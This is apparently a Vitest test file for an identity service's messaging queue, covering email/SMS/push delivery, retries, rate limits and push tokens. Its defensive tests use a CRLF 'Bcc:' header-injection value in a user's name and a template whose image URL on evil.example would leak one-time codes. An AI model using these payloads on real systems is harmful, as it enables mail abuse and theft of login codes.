// Messages that features ask for: queued in their transaction, sealed, tried again, given up, bounded.
import { generateKeyPairSync } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { bySystem, listEvents } from '../../../server/contract/events.ts';
import { putMessageTemplate } from '../../../server/contract/message-templates.ts';
import * as messages from '../../../server/contract/messages.ts';
import { deleteMessagingProvider, putMessagingProvider } from '../../../server/contract/messaging.ts';
import { createRealm, getRealmHealth } from '../../../server/contract/realms.ts';
import { putSettings, type SettingsInput } from '../../../server/contract/settings.ts';
import { createUser, putUser } from '../../../server/contract/users.ts';
import { type Apns, type MailServer, startApns, startMailServer } from '../../support/gateways.ts';
import { type Asking, startAsking } from '../../support/messages.ts';
import { eventually } from '../../support/operator.ts';
import { type Receiver, startReceiver } from '../../support/receiver.ts';
import { startTestServer, type TestServer } from '../../support/server.ts';

let server: TestServer;
let mail: MailServer;
let receiver: Receiver;
let apns: Apns;
let asking: Asking;
let folder: string;
let realm = '';
let userId = '';
let realms = 0;
const CODE = '493817';

beforeAll(async () => {
  [mail, receiver, apns] = await Promise.all([startMailServer(), startReceiver(), startApns()]);
  folder = await mkdtemp(path.join(os.tmpdir(), 'messages-'));
  const file = path.join(folder, 'ca.crt');
  await writeFile(file, [mail.ca, apns.ca, await readFile(receiver.caFile, 'utf8')].join('\n'));
  server = await startTestServer({ env: { SVC_OUTBOUND_CA_FILE: file }, retryDelaysSeconds: [0, 0] });
});
afterAll(async () => {
  await server?.stop();
  await Promise.all([mail?.stop(), receiver?.stop(), apns?.stop()]);
  await rm(folder, { recursive: true });
});
beforeEach(async () => {
  realms += 1;
  realm = `acme-${realms}`;
  await server.admin.call(createRealm, { body: { realm } });
  const body = { username: 'ada', email: 'ada@example.com', firstName: '<b>Ada</b>\r\nBcc: x@example.com' };
  userId = (await server.admin.call(createUser, { params: { realm }, body })).body?.id ?? '';
  mail.mails.length = 0;
  receiver.received.length = 0;
  receiver.answer = () => ({});
  delete mail.refuse;
  delete mail.refuseData;
  asking = startAsking(server);
});
afterEach(() => asking.stop());

const byMail = () =>
  server.admin.call(putMessagingProvider, {
    params: { realm },
    body: { channel: 'EMAIL', driver: 'smtp', config: { host: '127.0.0.1', port: mail.port } },
  });
const bySms = () =>
  server.admin.call(putMessagingProvider, {
    params: { realm },
    body: { channel: 'SMS', driver: 'http', config: { url: receiver.url } },
  });
const limit = (body: SettingsInput) => server.admin.call(putSettings, { params: { realm }, body });
const list = async (query: { status?: 'dead' | 'sent' | 'retrying' } = {}) =>
  (await server.admin.call(messages.listMessages, { params: { realm }, query })).body!;
const events = async (type: string) =>
  (await server.admin.call(listEvents, { params: { realm }, query: { type } })).body!;
const code = (more: Partial<Parameters<Asking['ask']>[0]> = {}) =>
  asking.ask({
    realm,
    userId,
    to: 'ada@example.com',
    templateKey: 'otp-email',
    values: { code: CODE },
    ...more,
  });
/** The person's own language, as their profile has it. */
const speaks = (locale: string) =>
  server.admin.call(putUser, { params: { realm, userId }, body: { attributes: { locale: [locale] } } });
const sms = (to: string) => code({ to, templateKey: 'otp-sms' });
const settled = async (status: 'sent' | 'dead', count = 1) => {
  await eventually(async () => expect(await list({ status })).toHaveLength(count));
  return list({ status });
};
const stored = async () => (await server.pool.query('select * from message where realm_id = $1', [realm])).rows;

describe('a message', () => {
  test('arrives in the person’s words and language, and what it said is gone from the database', async () => {
    await byMail();
    await server.admin.call(putMessageTemplate, {
      params: { realm },
      body: {
        templateKey: 'otp-email',
        locale: 'de',
        subject: 'Code für {{user.firstName}}',
        body: '<p>{{user.firstName}}: <b>{{code}}</b></p>',
        html: true,
      },
    });
    await speaks('de-CH');
    await code();
    const [message] = await settled('sent');
    expect(message).toMatchObject({
      channel: 'EMAIL',
      templateKey: 'otp-email',
      userId,
      recipient: 'a…@example.com',
      attempts: 1,
    });
    expect(JSON.stringify(message)).not.toContain(CODE);
    const [{ raw, to } = { raw: '', to: [] }] = mail.mails;
    expect(to).toEqual(['ada@example.com']);
    expect(raw).toMatch(/Content-Type: multipart\/alternative/);
    expect(raw).toContain(CODE);
    expect(raw).toContain('&lt;b&gt;Ada&lt;/b&gt;');
    expect(raw).not.toMatch(/^Bcc:/m);
    expect((await stored())[0].content).toBeNull();
    expect(await events('MESSAGE_QUEUED')).toMatchObject([{ subject: { id: userId } }]);
  });

  test('has an HTML version for an HTTP gateway too, whose words are kept without the link', async () => {
    await server.admin.call(putMessagingProvider, {
      params: { realm },
      body: { channel: 'EMAIL', driver: 'http', config: { url: receiver.url } },
    });
    receiver.answer = ({ raw }) => ({ status: 422, body: String(/href="[^"]*/.exec(JSON.parse(String(raw)).html)) });
    const link = 'https://id.example/reset?a=secret1&b=secret2';
    await code({ templateKey: 'magic-link-email', values: { link } });
    expect(await settled('dead')).toMatchObject([{ error: '422 href="***' }]);
    const { text, html } = JSON.parse(String(receiver.received[0]?.raw));
    expect(text).toContain(link);
    expect(text).not.toContain('<a');
    expect(html).toMatch(/<a href="https:\/\/id\.example\/reset\?a=secret1&amp;b=secret2"[^>]*>\w/);
  });

  test('of an older release’s template says its code to its reader and to no other host, and the log says once what it lacks', async () => {
    await byMail();
    await server.pool.query(
      `update message_template set html = true, content = $2
       where realm_id = $1 and template_key = 'otp-email' and locale = 'en'`,
      [realm, '<p>{{code}}</p><img src="https://evil.example/?{{code}}">'],
    );
    await code();
    await settled('sent');
    const [{ raw } = { raw: '' }] = mail.mails;
    expect(raw).toContain(`<p>${CODE}</p><img src="https://evil.example/?">`);
    await code();
    expect(asking.warnings).toEqual([
      `Messages of otp-email in realm ${realm} (en) lack a value: the template has {{code}} in an address or attribute: it stands in text`,
    ]);
  });

  test('is sealed while it waits', async () => {
    await bySms();
    receiver.answer = () => ({ afterMs: 3_000 });
    await sms('+491701234567');
    const rows = JSON.stringify(await stored());
    expect(rows).not.toContain(CODE);
    expect(rows).not.toContain('4917012');
    const { rows: jobs } = await server.pool.query(`select data from pgboss.job where name = 'message-delivery'`);
    expect(JSON.stringify(jobs)).not.toContain(CODE);
    await settled('sent');
  });

  test('of a transaction that fails is never sent', async () => {
    await byMail();
    await expect(
      asking.ask({ realm, userId, to: 'ada@example.com', templateKey: 'otp-email' }, () => {
        throw new Error('no');
      }),
    ).rejects.toThrow('no');
    await code();
    await settled('sent');
    expect(mail.mails).toHaveLength(1);
  });

  test('where nobody sends for the channel is not even stored', async () => {
    await code();
    expect(await stored()).toEqual([]);
  });
});

describe('a gateway that fails', () => {
  test('is asked again, and again after it is full', async () => {
    await bySms();
    receiver.answer = () => ({ status: [500, 429][receiver.received.length - 1] ?? 200 });
    await sms('+491701234567');
    expect(await settled('sent')).toMatchObject([{ attempts: 3, error: null }]);
  });

  test('again and again is given up, told without the code, and audited', async () => {
    await bySms();
    receiver.answer = ({ raw }) => ({ status: 503, body: `down: ${raw}` });
    await sms('+491701234567');
    const [dead] = await settled('dead');
    expect(dead).toMatchObject({ attempts: 3, recipient: '…67', error: expect.stringContaining('503 down') });
    expect(dead?.error).not.toMatch(new RegExp(`${CODE}|4917012`));
    // until it expires: an administrator can send it again (messaging.again.test.ts)
    expect((await stored())[0].content.toString()).not.toMatch(new RegExp(`${CODE}|4917012`));
    const subject = { id: userId, name: expect.stringMatching(/./) };
    expect(await events('MESSAGE_FAILED')).toMatchObject([{ outcome: 'failure', subject }]);
  });

  test('refuses for good, and is not asked again', async () => {
    await byMail();
    mail.refuse = () => ({ responseCode: 550, message: 'No such mailbox' });
    await code();
    expect(await settled('dead')).toMatchObject([
      { attempts: 1, error: expect.stringContaining('550 No such mailbox') },
    ]);
  });

  test('that never arrives, with two more of its channel, is in the realm’s health', async () => {
    await byMail();
    await bySms();
    const health = async () =>
      (await server.admin.call(getRealmHealth, { params: { realm } })).body?.components.messaging;
    const channels = ['EMAIL', 'SMS'];
    expect(await health()).toEqual({ status: 'UP', details: { channels, failing: [], deadLetters: 0 } });
    mail.refuse = () => ({ responseCode: 550, message: 'You may not send' });
    await sms('+491701234567');
    for (const name of ['a', 'b', 'c']) await code({ to: `${name}@example.com` });
    await settled('dead', 3);
    expect(await health()).toEqual({ status: 'DOWN', details: { channels, failing: ['EMAIL'], deadLetters: 3 } });
    delete mail.refuse;
    await code({ to: 'd@example.com' });
    await settled('sent', 2);
    expect(await health()).toMatchObject({ status: 'UP', details: { failing: [], deadLetters: 3 } });
  });

  test('greets who has no account by their address', async () => {
    await byMail();
    const values = { code: CODE, link: 'https://id.example/x' };
    await code({ userId: null, stranger: true, to: 'eve@example.com', templateKey: 'verify-email', values });
    await settled('sent');
    expect(mail.mails[0]?.raw).toContain('Hello eve@example.com,');
  });

  test('is tried again where the mail server puts it off, and not where it refuses what was sent', async () => {
    await byMail();
    let asked = 0;
    mail.refuse = () => {
      asked += 1;
      return asked === 1 ? { responseCode: 450, message: 'Greylisted, come back' } : undefined;
    };
    await code();
    expect(await settled('sent')).toMatchObject([{ attempts: 2 }]);
    mail.refuseData = () => ({ responseCode: 554, message: 'Looks like spam' });
    await code({ to: 'bob@example.com' });
    expect(await settled('dead')).toMatchObject([{ attempts: 1, error: expect.stringContaining('Looks like spam') }]);
    const metrics = await (await fetch(`${server.baseUrl}/actuator/metrics-text`)).text();
    for (const outcome of ['sent', 'retried', 'dead'])
      expect(metrics).toContain(`svc_messages_total{realm="${realm}",channel="EMAIL",outcome="${outcome}"} 1\n`);
  });

  test('gives its turn to another one of the channel', async () => {
    await bySms();
    const accountSid = `AC${'b'.repeat(32)}`;
    const body = {
      channel: 'SMS',
      driver: 'twilio',
      fromAddress: '+15005550006',
      config: { accountSid, apiUrl: receiver.url },
      secret: 'x',
    } as const;
    await server.admin.call(putMessagingProvider, { params: { realm }, body });
    receiver.answer = ({ url }) => ({ status: url === '/' ? 500 : 201 });
    await sms('+491701234567');
    expect(await settled('sent')).toMatchObject([{ attempts: 2 }]);
  });

  test('whose provider is deleted meanwhile leaves a dead letter', async () => {
    await bySms();
    receiver.answer = async () => {
      await server.admin.call(deleteMessagingProvider, { params: { realm, channel: 'SMS', driver: 'http' } });
      return { status: 500 };
    };
    await sms('+491701234567');
    expect(await settled('dead')).toMatchObject([{ error: 'no provider of SMS is enabled' }]);
  });

  test('is not asked any more once the message is of no use', async () => {
    await bySms();
    await code({ to: '+491', templateKey: 'otp-sms', goodForSeconds: 0 });
    expect(await settled('dead')).toMatchObject([{ error: 'it was not sent while it was of use' }]);
    expect(receiver.received).toEqual([]);
  });
});

describe('nobody learns whether somebody gets a message', () => {
  test('for no person the same is done, and nothing sent or listed', async () => {
    await byMail();
    const values = { code: CODE };
    await asking.ask({ realm, userId: null, to: null, templateKey: 'otp-email', values }, async ({ sql }) => {
      expect(await sql`select from message where realm_id = ${realm}`).toHaveLength(1);
    });
    await eventually(async () => expect(await stored()).toEqual([]));
    expect([await list(), mail.mails]).toEqual([[], []]);
    expect(await events('MESSAGE_SUPPRESSED')).toMatchObject([{ outcome: 'denied', data: { reason: 'no recipient' } }]);
  });
});

describe('limits', () => {
  const by = (ipAddress: string) => ({ actor: null, ipAddress });

  test('of one recipient hold whoever asks, also at the same moment', async () => {
    await bySms();
    await limit({ maxMessagesPerRecipientPerHour: 3 });
    await Promise.all(
      Array.from({ length: 8 }, (_, n) => code({ to: '+4917', templateKey: 'otp-sms', by: by(`192.0.2.${n}`) })),
    );
    await settled('sent', 3);
    await eventually(async () => expect(await stored()).toHaveLength(3));
    expect(await events('MESSAGE_SUPPRESSED')).toHaveLength(5);
  });

  test('of one network address hold over many recipients; an IPv6 subscriber is one', async () => {
    await bySms();
    await limit({ maxMessagesPerAddressPerHour: 2 });
    for (const n of [1, 2, 3, 4]) await code({ to: `+4917${n}`, templateKey: 'otp-sms', by: by(`2001:db8:1:2::${n}`) });
    await code({ to: '+49175', templateKey: 'otp-sms', by: by('192.0.2.1') });
    await settled('sent', 3);
  });

  test('of a realm hold for SMS, which cost money, and none are sent where none may be', async () => {
    await bySms();
    await byMail();
    await limit({ maxSmsPerHour: 4, maxEmailsPerHour: 1 });
    for (const n of [1, 2, 3, 4, 5, 6]) await sms(`+4917${n}`);
    await code();
    await settled('sent', 5);
    expect(receiver.received).toHaveLength(4);
    await code({ to: 'b@example.com' });
    await eventually(async () => expect(await events('MESSAGE_SUPPRESSED')).toHaveLength(3));
    expect(mail.mails).toHaveLength(1);
  });

  test('make no two transactions wait for each other that send several messages, and count them all', async () => {
    await byMail();
    await limit({ maxMessagesPerRecipientPerHour: 1000, maxEmailsPerHour: 49 });
    const { transact, send } = asking.with;
    let tries = 0;
    const askForTwo = async (n: number) => {
      const recipients = [
        `shared${n % 5}@example.com`,
        n % 2 ? `own${n}@example.com` : `shared${(n + 1) % 5}@example.com`,
      ];
      recipients.sort();
      await transact(realm, async (tx) => {
        tries += 1;
        for (const to of recipients) {
          const values = { code: CODE };
          await send(tx, { realm, by: bySystem, userId, to, templateKey: 'otp-email', values });
          await new Promise((resolve) => setTimeout(resolve, 5));
        }
      });
    };
    await Promise.all(Array.from({ length: 24 }, (_, n) => askForTwo(n)));
    // One that PostgreSQL ends for a deadlock is tried again.
    expect(tries).toBe(24);
    await code();
    expect(await events('MESSAGE_SUPPRESSED')).toHaveLength(0);
    await code();
    const suppressed = await events('MESSAGE_SUPPRESSED');
    expect(suppressed.map(({ data }) => data.reason)).toEqual(['more than the limit of the realm']);
  });

  test('of a realm are not used up by what one recipient or address may not have', async () => {
    await bySms();
    await limit({ maxSmsPerHour: 6, maxMessagesPerRecipientPerHour: 2, maxMessagesPerAddressPerHour: 2 });
    for (let times = 0; times < 9; times += 1) await sms('+49170');
    for (const n of [1, 2, 3, 4, 5, 6])
      await code({ to: `+4918${n}`, templateKey: 'otp-sms', by: by('2001:db8:1:2::1') });
    await settled('sent', 4);
    await sms('+49171');
    await sms('+49172');
    await settled('sent', 6);
    await sms('+49173');
    const reasons = async () => (await events('MESSAGE_SUPPRESSED')).map(({ data }) => data.reason);
    await eventually(async () => expect(await reasons()).toHaveLength(12));
    expect((await reasons())[0]).toBe((await reasons()).find((reason) => String(reason).includes('realm')));
  });
});

describe('push tokens', () => {
  const register = async (more: Partial<messages.PushTokenInput> = {}) =>
    (
      await server.admin.call(messages.registerPushToken, {
        params: { realm },
        body: { userId, platform: 'fcm', deviceName: 'Phone', token: 'the-token-of-the-phone', ...more },
      })
    ).body!;
  const devices = async (query: object = {}) =>
    (await server.admin.call(messages.listPushTokens, { params: { realm }, query })).body!;

  test('are registered for a person, never shown, sealed at rest, and paged', async () => {
    const made = await register();
    expect(made).toEqual({
      id: made.id,
      userId,
      platform: 'fcm',
      deviceName: 'Phone',
      createdAt: made.createdAt,
      lastUsedAt: null,
    });
    await register({ token: 'another', deviceName: null });
    const { nextCursor, body } = await server.admin.call(messages.listPushTokens, {
      params: { realm },
      query: { limit: 1 },
    });
    expect(body).toHaveLength(1);
    expect((await devices({ cursor: nextCursor })).map(({ id }) => id)).toEqual([made.id]);
    expect((await devices({ userId })).map(({ deviceName }) => deviceName)).toEqual([null, 'Phone']);
    const { rows } = await server.pool.query('select token from push_token where realm_id = $1', [realm]);
    expect(rows.some(({ token }) => Buffer.from(token).includes('the-token'))).toBe(false);
  });

  test('that are known already move to who has the device now', async () => {
    const first = await register();
    const { body: other } = await server.admin.call(createUser, { params: { realm }, body: { username: 'bob' } });
    expect(await register({ userId: other?.id ?? '' })).toMatchObject({ id: first.id, userId: other?.id });
    await expect(register({ userId: '0192f0c1-0000-7000-8000-000000000000' })).rejects.toMatchObject({ status: 400 });
  });

  test('stay when the gateway refuses them by its own settings, and go when Apple knows them no more', async () => {
    const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
    const secret = String(privateKey.export({ type: 'pkcs8', format: 'pem' }));
    const config = { teamId: 'TEAM123456', keyId: 'KEY1234567', bundleId: 'com.acme.app', apiUrl: apns.url };
    const body = { channel: 'PUSH', driver: 'apns', config, secret } as const;
    await server.admin.call(putMessagingProvider, { params: { realm }, body });
    await register({ platform: 'apns', token: 'sandboxed' });
    await register({ platform: 'apns', token: 'other-app', deviceName: 'Tablet' });
    await register({ platform: 'apns', token: 'gone', deviceName: 'Old phone' });
    const refusals = new Map([
      ['sandboxed', { status: 400, reason: 'BadDeviceToken' }],
      ['other-app', { status: 400, reason: 'DeviceTokenNotForTopic' }],
      ['gone', { status: 410, reason: 'Unregistered' }],
    ]);
    apns.answer = ({ headers }) => refusals.get(String(headers[':path']).slice('/3/device/'.length)) ?? { status: 200 };
    await asking.ask({ realm, userId, templateKey: 'push-challenge' });
    await expect.poll(async () => (await list({ status: 'dead' })).length).toBe(3);
    expect((await devices()).map(({ deviceName }) => deviceName).sort()).toEqual(['Phone', 'Tablet']);
  });

  test('stay when the project is unknown to the gateway', async () => {
    const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const secret = JSON.stringify({
      client_email: 'push@example.iam',
      private_key: privateKey.export({ type: 'pkcs8', format: 'pem' }),
      token_uri: `${receiver.url}/token`,
    });
    const config = { projectId: 'no-project', apiUrl: receiver.url };
    await server.admin.call(putMessagingProvider, {
      params: { realm },
      body: { channel: 'PUSH', driver: 'fcm', config, secret },
    });
    await register();
    await register({ token: 'gone', deviceName: 'Old phone' });
    const gone = { error: { status: 'NOT_FOUND', details: [{ '@type': 'FcmError', errorCode: 'UNREGISTERED' }] } };
    receiver.answer = ({ url, raw }) => {
      if (url === '/token') return { body: '{"access_token":"t"}' };
      return { status: 404, body: raw.includes('"gone"') ? JSON.stringify(gone) : '{"error":{"status":"NOT_FOUND"}}' };
    };
    await asking.ask({ realm, userId, templateKey: 'push-challenge' });
    await expect.poll(async () => (await list({ status: 'dead' })).length).toBe(2);
    expect((await devices()).map(({ deviceName }) => deviceName)).toEqual(['Phone']);
  });

  test('get the messages of their person, and go when their gateway knows them no more', async () => {
    const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const secret = JSON.stringify({
      client_email: 'push@example.iam',
      private_key: privateKey.export({ type: 'pkcs8', format: 'pem' }),
      token_uri: `${receiver.url}/token`,
    });
    const config = { projectId: 'my-project', apiUrl: receiver.url };
    const body = { channel: 'PUSH', driver: 'fcm', config, secret } as const;
    await server.admin.call(putMessagingProvider, { params: { realm }, body });
    await register();
    await register({ token: 'gone', deviceName: 'Old phone' });
    receiver.answer = ({ url, raw }) => {
      if (url === '/token') return { body: '{"access_token":"t"}' };
      return raw.includes('"gone"') ? { status: 404, body: '{"error":{"status":"UNREGISTERED"}}' } : { body: '{}' };
    };
    await asking.ask({ realm, userId, templateKey: 'push-challenge' });
    expect(await settled('sent')).toMatchObject([{ recipient: 'Phone', channel: 'PUSH' }]);
    expect(await settled('dead')).toMatchObject([{ recipient: 'Old phone', attempts: 1 }]);
    expect(await devices()).toMatchObject([{ deviceName: 'Phone', lastUsedAt: expect.any(Number) }]);
  });
});
